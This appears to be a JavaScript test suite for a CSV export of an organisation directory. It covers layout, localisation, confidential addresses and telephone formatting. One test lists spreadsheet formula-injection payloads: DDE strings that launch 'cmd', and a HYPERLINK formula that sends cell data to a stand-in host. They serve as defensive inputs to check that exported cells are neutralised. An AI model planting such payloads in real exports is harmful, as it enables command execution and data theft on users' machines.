/** The table, read as a spreadsheet reads it. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { test } from 'node:test';
import Papa from 'papaparse';
import { csvOf, parseFeed } from '../../dist/index.js';
import * as fc from '../seeded.mjs';

const root = resolve(import.meta.dirname, '../..');
const HERE = 'https://directory.example/feed.json';
const read = (file) => parseFeed(JSON.parse(readFileSync(resolve(root, file), 'utf8')), HERE).feed;
const feedOf = (...records) =>
  parseFeed(
    {
      orgfeed: '1.0',
      title: 'Here',
      organizations: records.map((fields, i) => ({ id: `a${i}`, name: 'A', ...fields })),
    },
    HERE,
  ).feed;

/** The rows, each with its cells by the names of their columns; whatever is not RFC 4180 fails the test. */
function table(text) {
  assert.equal(text[0], '\ufeff', 'spreadsheets know UTF-8 by its mark');
  assert.doesNotMatch(text.replace(/"[^"]*"/g, ''), /[^\r]\n|\r[^\n]/);
  assert.ok(text.endsWith('\r\n'));
  const { data, errors, meta } = Papa.parse(text, { header: true, delimiter: ',', skipEmptyLines: true });
  assert.deepEqual(errors, []);
  assert.equal(new Set(meta.fields).size, 12);
  return data;
}
const rowOf = (fields, locale = 'en') => {
  const feed = feedOf(fields);
  return table(csvOf(feed, feed.organizations, locale))[0];
};

test('the seed’s organisation is a row in the reader’s language', () => {
  const feed = read('test/feeds/seed.json');
  const [row] = table(csvOf(feed, feed.organizations.slice(0, 1), 'fr'));
  const { Thèmes: tags, Téléphone: phone, 'Page dans l’annuaire': page, ...rest } = row;
  assert.deepEqual(rest, {
    Nom: 'Missing Children Europe',
    Sigle: 'MCE',
    Type: 'Fédération',
    Pays: 'Belgique',
    Lieux: 'Europe, Belgique',
    Constitution: '2008',
    Courriel: '',
    'Site web': feed.organizations[0].website ?? '',
    Adresse: "Rue de l'Industrie 10, 1000 Bruxelles, Belgique",
  });
  assert.equal(page, feed.organizations[0].url ?? '');
  assert.equal(tags.split('; ').length, 8);
  assert.ok(tags.includes('Séquestration'));
  assert.equal(phone.trim(), '+32 2 894 74 84');
});

test('a selection is written in its order, and no organisation is a table with no rows', () => {
  const feed = read('demo/feed.json');
  const some = feed.organizations.filter((_, i) => i % 3 === 0).toReversed();
  assert.equal(table(csvOf(feed, some, 'en')).length, some.length);
  assert.deepEqual(
    table(csvOf(feed, some, 'es')).map(({ Name }) => Name.length > 0),
    some.map(() => true),
  );
  assert.deepEqual(table(csvOf(feed, [], 'en')), []);
});

test('what several values are is told apart, and a fax is no telephone', () => {
  const row = rowOf({
    areas: ['150', 'BE', 'FR', 'BE-BRU'],
    emails: ['a@x.example', { address: 'b@x.example' }],
    phones: [
      { tel: '+3228947484', display: '+32 2 894 74 84' },
      { tel: '116000' },
      { tel: '+3226298899', type: 'fax' },
    ],
  });
  assert.equal(row.Country, 'Belgium; France');
  assert.equal(row['E-mail'], 'a@x.example; b@x.example');
  assert.equal(row.Telephone.trim(), '+32 2 894 74 84; 116000');
});

test('the country is where it is filed, else where it is from, else that of its address', () => {
  const addresses = [{ lines: ['1'], country: 'FR' }];
  assert.equal(rowOf({ areas: ['150', 'BE'], origin: 'LU', addresses }).Country, 'Belgium');
  assert.equal(rowOf({ areas: ['150'], origin: 'LU', addresses }).Country, 'Luxembourg');
  assert.equal(rowOf({ areas: ['150'], addresses }).Country, 'France');
  assert.equal(rowOf({}).Country, '');
});

test('what is confidential is not in it', () => {
  const row = rowOf({ addresses: [{ lines: ['9 Secret Lane'], country: 'FR', confidential: 'no' }] });
  assert.doesNotMatch(JSON.stringify(row), /Secret|France/);
});

test('telephone numbers stay as they are, and stay text', () => {
  const numbers = ['+32 2 894 74 84', '+3228947484', '02 894 74 84', '028947484', '+44 (0)1947-000000'];
  for (const display of numbers) {
    const { Telephone } = rowOf({ phones: [{ display }] });
    assert.equal(Telephone.trim(), display);
    assert.match(Telephone, /^\u00a0/, 'a spreadsheet would make a number of it');
  }
  const { Telephone } = rowOf({ phones: [{ tel: '+441947000000', ext: '12' }] });
  assert.equal(Telephone.trim(), '+441947000000 ext. 12');
});

test('no cell acts as a formula', () => {
  const formulas = [
    '=1+1',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    '\t=1',
    ' =1',
    '＝1+1',
    '"=1',
  ];
  for (const text of formulas) {
    const row = rowOf({
      name: text,
      acronym: text,
      type: text,
      tags: [text],
      phones: [{ display: text }],
      addresses: [{ lines: [text] }],
    });
    for (const [column, value] of Object.entries(row)) {
      assert.doesNotMatch(value, /^\s*[=+\-@＝＋－＠\t\r]/, column);
      if (value && column !== 'Country') assert.ok(value.includes(text.trim()), column);
    }
  }
});

const piece = fc.constantFrom(...Array.from('",;\t=+-@\'10 \u00a0é漢👧a|\ufeff'), '""', '\r\n');
const hostile = fc.array(piece, { minLength: 1, maxLength: 10 }).map((pieces) => pieces.join(''));

test('no text breaks out of its cell or is lost', () => {
  fc.assert(
    fc.property(hostile, hostile, hostile, (a, b, c) => {
      const feed = feedOf(
        { name: `n${a}` },
        { name: 'B', acronym: a, tags: [b], phones: [c], addresses: [{ lines: [b] }] },
      );
      const rows = table(csvOf(feed, feed.organizations, 'en'));
      assert.equal(rows.length, 2);
      const [, { acronym = '', tags = [], phones = [] }] = feed.organizations;
      const bare = (text) => text.replace(/(^|;)[\u00a0'\s]+/g, '$1').trim();
      assert.equal(bare(rows[0].Name), bare(feed.organizations[0].name));
      assert.equal(bare(rows[1].Acronym), bare(acronym));
      assert.equal(bare(rows[1].Topics), bare(tags.join('')));
      assert.equal(bare(rows[1].Telephone), bare(phones[0]?.display ?? ''));
      for (const row of rows) for (const value of Object.values(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
      // As a spreadsheet reads it that takes semicolons or tabs for the ends of cells, and quotes inside of one for text.
      for (const piece of csvOf(feed, feed.organizations, 'en').split(/[;\t\r\n]/))
        assert.doesNotMatch(piece, /^[ "]*[=+\-@＝＋－＠]/, JSON.stringify(piece));
    }),
    { numRuns: 500 },
  );
});

test('the second of two numbers stays as it is, too', () => {
  const { Telephone } = rowOf({ phones: [{ tel: '+441947000000' }, { tel: '+3228947484' }] });
  assert.equal(Telephone, '\u00a0+441947000000;\u00a0+3228947484');
});
